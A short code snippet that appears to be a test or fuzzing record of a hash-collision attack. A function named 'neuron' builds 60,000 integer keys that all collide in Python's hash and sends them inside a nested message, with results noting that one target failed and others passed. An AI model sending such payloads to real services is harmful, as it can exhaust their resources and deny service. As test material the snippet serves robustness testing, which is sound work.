# attack: a dict whose keys all collide where it is read
# from: hash collisions
# neuron: failed
# others: passed
def neuron(x, w, b):
    pairs = [[k * (2**61 - 1), None] for k in range(60_000)]
    send({"d": [["id", nonce()], ["ok", {"d": pairs}]]})
